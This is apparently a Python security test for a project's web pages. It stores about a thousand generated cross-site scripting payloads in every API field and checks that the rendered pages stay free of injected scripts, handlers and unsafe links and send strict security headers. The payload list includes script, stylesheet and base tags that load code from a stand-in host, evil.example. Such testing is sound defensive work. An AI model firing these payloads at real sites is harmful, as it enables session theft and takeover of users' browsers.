"""Text that wants to run in a browser: stored through the API in every field, and every page looked at.

A page may have no element, attribute or address that the same page does not have with innocent text, no script but
ours, and a policy that would let nothing else run.
"""

from __future__ import annotations

import json
import random
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from ralph.core.records import AttemptOutcome, Memory, MemoryState, TaskStatus, now
from ralph.project import Project
from ralph.store.memories import ChangeInfo
from ralph.web.pages import PAGES
from tests.faults.trial import Shown, Trial
from tests.make import a_report, begin, finish, set_up_project
from tests.web.asking import Said, Served
from tests.web.known import filled, ids_in

BATCH = 40
"""So many payloads share a project: lists show them all."""
POLICY = ("default-src 'none'", "script-src 'self'", "style-src 'self'", "base-uri 'none'", "frame-ancestors 'none'")

_TAGS = (
    *("img", "svg", "body", "video", "audio", "iframe", "details", "marquee", "object", "embed", "input", "select"),
    *("textarea", "form", "math", "a", "button", "style", "link", "meta", "base", "script", "template", "noscript"),
    *("isindex", "keygen", "frameset", "table", "xss", "animate", "set", "use", "foreignObject", "portal"),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open", "onstart", "onpageshow"),
    *("onanimationstart", "onbeforeinput", "onpointerenter", "oncopy", "onhashchange"),
)
_WHOLE = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    " onfocus=alert(1) autofocus tabindex=1 ",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "[[javascript:alert(1)]]",
    '![x](x"onerror="alert(1))',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    '<div style="width:expression(alert(1))">',
    "{{constructor.constructor('alert(1)')()}}",
    "{{ 7 * 7 }}{% print 49 %}{# x #}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u003c\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u2028</script><script>alert(1)</script>\u2029",
    "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<<script>alert(1);//<</script>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "<input type=image src=x onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '";alert(1);//',
    "';alert(1)//",
    '</a href="javascript:alert(1)">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
)


def payloads(size: int, seed: int) -> list[str]:
    """Return so many different texts that would run somewhere."""
    chance = random.Random(seed)
    made = dict.fromkeys(_WHOLE)
    starts = ("", '">', "'>", "</title>", "</script>", "-->", "x\n", "<p>", "`>", "]]>")
    while len(made) < size:
        tag, handler = chance.choice(_TAGS), chance.choice(_HANDLERS)
        space = chance.choice([" ", "/", "\t", "\n", " /x "])
        quote = chance.choice(["", '"', "'", "`"])
        end = chance.choice([">", "/>", "", "//", ">x</" + tag + ">"])
        made[f"{chance.choice(starts)}<{tag}{space}{handler}={quote}alert({len(made)}){quote}{end}"] = None
    return list(made)[:size]


class Structure(HTMLParser):
    """What a page is made of: elements with the names of their attributes, where addresses lead, scripts."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.bad: list[str] = []
        self._script: str | None = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            self.elements.add(f"{tag} {name}")
            self._look_at(tag, name, (value or "").strip().lower())
        self.elements.add(tag)
        if tag == "script":
            given = dict(attrs)
            self._script = given.get("type") or ""
            if not (given.get("src") or "").startswith("/static/") and self._script != "application/json":
                self.bad.append(f"a script that is not ours: {given}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is None or not data.strip():
            return
        if self._script != "application/json":
            self.bad.append(f"a script in the page: {data[:60]!r}")
            return
        try:
            json.loads(data)
        except ValueError:
            self.bad.append(f"data that is no JSON: {data[:60]!r}")

    def _look_at(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in ("srcdoc", "formaction"):
            self.bad.append(f"{tag} {name}={value[:60]!r}")
        if name in ("href", "src", "action", "xlink:href", "data") and re.match(
            r"(?:java|vb)script|data:text|//", value
        ):
            self.bad.append(f"{tag} {name}={value[:60]!r}")


def fill(served: Served, texts: list[str]) -> None:
    """Put each text into every field that pages show: by the API, and by what attempts leave."""
    project = served.project
    ids: list[str] = []
    for text in texts:
        served.post("/api/features", {"name": f"f {len(ids)} {text}"[:150], "spec": text, "plan": text})
        memory = {"content": f"{text} {len(ids)}", "title": f"m {len(ids)} {text}", "tags": [text], "file_refs": [text]}
        served.post("/api/projects/-/memories", memory)
        status, task = served.post("/api/tasks", {"title": f"t {len(ids)} {text}", "body": text})
        assert status == 201, task
        ids.append(task["id"])
        served.post(f"/api/tasks/{task['id']}/log", {"message": text})
    staged = Memory(
        id="",
        kind="pitfall",
        title="".join(texts[:2]),
        content="\n".join(texts),
        state=MemoryState.STAGED,
        state_reason=texts[0],
        created_at=now(),
        updated_at=now(),
    )
    project.store.memories.insert_unchecked(staged, ChangeInfo(who=texts[0], why=texts[-1]))
    run = project.store.runs.start(f"agent {texts[0]}", "{}")
    for text in texts[:-3]:
        task, attempt = begin(project.store, run.id)
        report = a_report(attempt, text, tried=text, trace=text, category=text[:40], retry_suggestion=text)
        more: dict[str, Any] = {"notes": text, "reason": text, "model": text, "model_reason": text, "files": (text,)}
        finish(project.store, task, attempt, AttemptOutcome.RETRIED, TaskStatus.BLOCKED, report=report, **more)
    project.store.runs.end(run.id, texts[0], 1.0)
    served.post(f"/api/tasks/{ids[-1]}/block", {"reason": texts[-1]})


def look(folder: Path, texts: list[str]) -> tuple[set[str], list[str], int]:
    """Return what all pages with these texts are made of, what is wrong with them, and how many were looked at."""
    folder.mkdir(parents=True)
    set_up_project(folder)
    elements: set[str] = set()
    bad: list[str] = []
    with Project.open(folder) as project:
        served = Served(folder, project)
        try:
            fill(served, texts)
            addresses = _addresses(project)
            for address in addresses:
                said = served.ask("GET", address)
                page = Structure(said.text)
                elements |= page.elements
                bad += [f"{address}: {one}" for one in [*page.bad, *_ill_said(said)]]
                bad += [
                    f"{address}: {text!r} stands there as it is"
                    for text in texts
                    if re.search(r"<\w", text) and text.strip() in said.text and said.kind == "text/html"
                ]
        finally:
            served.close()
    return elements, bad, len(addresses)


def _addresses(project: Project) -> list[str]:
    known = ids_in(project)
    found = [address for page in PAGES if page.path != "/api/docs" and (address := filled(page.path, known))]
    found += [f"/tasks/{id}" for id in known["tasks"]] + [f"/memories/{id}" for id in known["memories"]]
    return list(dict.fromkeys(found))


def _ill_said(said: Said) -> list[str]:
    policy = said.headers["content-security-policy"] or ""
    wrong = [f"no {part}" for part in POLICY if part not in policy]
    wrong += ["unsafe policy"] if "unsafe" in policy else []
    wrong += [] if said.headers["x-content-type-options"] == "nosniff" else ["sniffed"]
    return wrong + ([] if said.status == 200 else [f"answered {said.status}"])


def innocent(folder: Path) -> set[str]:
    """Return what pages are made of with nothing but words in them."""
    texts = [f"words number {number} with a link to [[words]]" for number in range(BATCH)]
    elements, bad, _ = look(folder, texts)
    assert bad == [], bad[:5]
    return elements


def run(folder: Path, size: int, seed: int) -> Shown:
    """Store so many payloads, and count what pages have that innocent ones have not."""
    usual = innocent(folder / "usual")
    texts = payloads(size, seed)
    lost = pages = 0
    for start in range(0, size, BATCH):
        batch = (texts[start : start + BATCH] + ["words"] * 5)[: max(5, min(BATCH, size - start))]
        elements, bad, looked_at = look(folder / str(start), batch)
        lost += len(elements - usual) + len(bad)
        pages += looked_at
    return Shown(load=f"{size:,} payloads in every field, {pages:,} pages", tried=size, lost=lost)


TRIALS = (Trial(name="pages", test="XSS", allowed="0", size=1_000, run=run),)
